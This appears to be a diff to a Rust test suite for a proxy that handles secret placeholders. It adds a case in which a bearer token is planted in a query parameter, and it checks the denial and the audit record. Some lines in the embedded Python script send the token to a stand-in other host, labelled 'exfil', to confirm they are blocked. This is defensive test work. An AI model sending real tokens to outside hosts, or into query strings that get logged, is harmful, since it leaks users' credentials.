@@ -203,6 +203,9 @@ show('unlisted', requests.get('https://api.example.test:{p}/elsewhere', timeout=
 show('exfil', requests.get('https://other.example.test:{p}/hello', headers={{'Authorization': 'Bearer ' + tok}}, timeout=10))
 show('exfil-query', requests.get('https://other.example.test:{p}/hello?key=' + tok, timeout=10))
 show('clean', requests.get('https://other.example.test:{p}/hello', timeout=10))
+r = requests.post('https://api.example.test:{p}/echo?text=' + tok, headers={{'Authorization': 'Bearer ' + tok}}, timeout=10)
+show('planted', r)
+print('detail', r.json().get('detail'))
 "#
     );
     let before = up.seen().len();
@@ -220,6 +223,12 @@ show('clean', requests.get('https://other.example.test:{p}/hello', timeout=10))
                 "exfil-query 403 denied placeholder_not_allowed GET /hello?key={PLACEHOLDER} web-bot"
             ),
             "clean 200 None None None None None",
+            // The right host, but a bearer token planted in a query
+            // parameter (a message text the API would keep).
+            &format!(
+                "planted 403 denied placeholder_misplaced POST /echo?text={PLACEHOLDER} web-bot"
+            ),
+            "detail the placeholder of secret \"api-token\" stands in the query; a bearer secret is swapped only in the Authorization header (as written or inside a Basic value)",
         ],
         "{}",
         describe(&out)
@@ -236,6 +245,11 @@ show('clean', requests.get('https://other.example.test:{p}/hello', timeout=10))
     });
     assert_eq!(rec["action"], "deny");
     assert_eq!(rec["host"], "other.example.test");
+    let rec = d.wait_audit("for the planted placeholder", |r| {
+        r["reason"] == "placeholder_misplaced"
+    });
+    assert_eq!(rec["action"], "deny");
+    assert_eq!(rec["host"], "api.example.test");
 }
 
 #[test]
